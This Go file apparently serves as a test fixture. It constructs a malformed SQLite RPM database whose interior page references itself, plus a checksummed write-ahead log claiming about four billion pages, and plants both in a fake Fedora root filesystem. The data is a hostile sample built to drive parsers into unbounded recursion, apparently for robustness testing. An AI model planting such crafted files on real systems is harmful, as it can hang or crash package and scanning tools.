//go:build linux

package main

import (
	"bytes"
	"encoding/binary"
	"path/filepath"
)

// pageSize is the smallest that SQLite has.
const pageSize = 512

// rpmRecursion returns a database of one interior page whose right child is itself (SQLite's file format, §1.6).
func rpmRecursion() []byte {
	page := make([]byte, pageSize)
	copy(page, "SQLite format 3\x00")
	binary.BigEndian.PutUint16(page[16:], pageSize)
	page[18], page[19] = 2, 2 // written with a write-ahead log
	binary.BigEndian.PutUint32(page[56:], 1)
	page[100] = 5
	binary.BigEndian.PutUint32(page[108:], 1)
	return page
}

// plantRecursion adds a write-ahead log (§4) that claims 2^32-1 pages: that many levels are allowed.
func plantRecursion(dir string) error {
	page, salt := rpmRecursion(), []byte("SALTSALT")
	var a, b uint32
	sum := func(data []byte) {
		for ; len(data) >= 8; data = data[8:] {
			a += binary.LittleEndian.Uint32(data) + b
			b += binary.LittleEndian.Uint32(data[4:]) + a
		}
	}
	words := func(n ...uint32) []byte {
		var out []byte
		for _, w := range n {
			out = binary.BigEndian.AppendUint32(out, w)
		}
		return out
	}
	header := append(words(0x377f0682, 3007000, pageSize, 0), salt...)
	sum(header)
	log := append(header, words(a, b)...)
	frame := words(1, 1<<32-1)
	sum(frame)
	sum(page)
	log = append(log, bytes.Join([][]byte{frame, salt, words(a, b), page}, nil)...)
	if err := write(filepath.Join(dir, "etc/os-release"), []byte("ID=fedora\n")); err != nil {
		return err
	}
	if err := write(filepath.Join(dir, "var/lib/rpm/rpmdb.sqlite"), page); err != nil {
		return err
	}
	return write(filepath.Join(dir, "var/lib/rpm/rpmdb.sqlite-wal"), log)
}
